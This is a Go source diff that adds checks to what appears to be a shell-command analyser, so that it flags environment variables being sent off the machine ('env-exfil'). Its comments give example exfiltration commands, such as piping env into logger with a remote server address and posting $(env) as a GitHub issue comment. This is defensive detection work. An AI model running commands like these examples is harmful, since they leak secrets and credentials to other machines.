@@ -95,3 +95,94 @@ func (w *walker) fetched(name string, argv []arg) bool {
 	}
 	return true
 }
+
+// remoteDest reports a program's words naming another machine to talk to:
+// a remote place (remoteArg), an IP address or a host:port, or the value
+// of a --server, --host, --url or --endpoint option; not this machine.
+func remoteDest(argv []arg) bool {
+	for i, a := range argv[1:] {
+		s := a.s
+		if a.dyn || s == "" {
+			continue
+		}
+		if v, ok := strings.CutPrefix(s, "--server="); ok {
+			s = v
+		} else if (s == "--server" || s == "--host" || s == "--url" || s == "--endpoint" || s == "-n" && base(argv[0].s) == "logger") && i+2 < len(argv) {
+			s = argv[i+2].s
+		}
+		if thisMachine(s) {
+			continue
+		}
+		if remoteArg(s) || ipLiteral(s) || hostPort(s) {
+			return true
+		}
+	}
+	return false
+}
+
+// thisMachine reports a word naming this machine (a URL's host, a
+// host:port, an address).
+func thisMachine(s string) bool {
+	h := s
+	if i := strings.Index(h, "://"); i >= 0 {
+		h = h[i+3:]
+	}
+	h, _, _ = strings.Cut(h, "/")
+	host := h
+	if i := strings.LastIndexByte(host, ':'); i > 0 && isDigits(host[i+1:]) {
+		host = host[:i]
+	}
+	return localHost(host) || strings.HasPrefix(host, "127.")
+}
+
+// ipLiteral reports an IPv4 address, optionally with a port.
+func ipLiteral(s string) bool {
+	s = strings.SplitN(s, ":", 2)[0]
+	parts := strings.Split(s, ".")
+	if len(parts) != 4 {
+		return false
+	}
+	for _, p := range parts {
+		if p == "" || len(p) > 3 || !isDigits(p) {
+			return false
+		}
+	}
+	return true
+}
+
+// hostPort reports a host:port word with a dotted host ("x.example:443").
+func hostPort(s string) bool {
+	h, port, ok := strings.Cut(s, ":")
+	return ok && isDigits(port) && len(port) <= 5 && strings.Contains(h, ".") && !strings.ContainsAny(h, "/=@ ") && !strings.HasPrefix(h, ".")
+}
+
+// localTool is a program that keeps what it is given on this machine: a
+// builtin, a viewer, a filter, an editor.
+func localTool(name string) bool {
+	switch name {
+	case "echo", "printf", "print", "test", "[", "[[", "declare", "local", "export", "readonly", "typeset", "set", "read", "mapfile",
+		"cat", "tee", "less", "more", "grep", "egrep", "rg", "sort", "uniq", "diff", "wc", "head", "tail", "jq", "yq", "column",
+		"true", ":", "code", "vim", "nvim", "nano", "emacs", "hooktool":
+		return true
+	}
+	return stdinData(name) && !netSender(name)
+}
+
+// envLeaves judges the environment handed to a program that sends it on:
+// in an argument ("$(env)" as a message body, gh issue comment --body
+// "$(env)"), or piped into a program given another machine's address
+// (env | logger --server 203.0.113.7).
+func (w *walker) envLeaves(name string, argv []arg, seg string, in input) {
+	if localTool(name) || shells(name) || langOf(name) != nil {
+		return
+	}
+	for _, a := range argv[1:] {
+		if a.secret {
+			w.add("env-exfil", seg, name+" is given the output of env in its arguments, which it sends on")
+			return
+		}
+	}
+	if in.secret && remoteDest(argv) {
+		w.add("env-exfil", pick(in.seg, seg), "the environment is piped into "+name+", which is given another machine's address")
+	}
+}
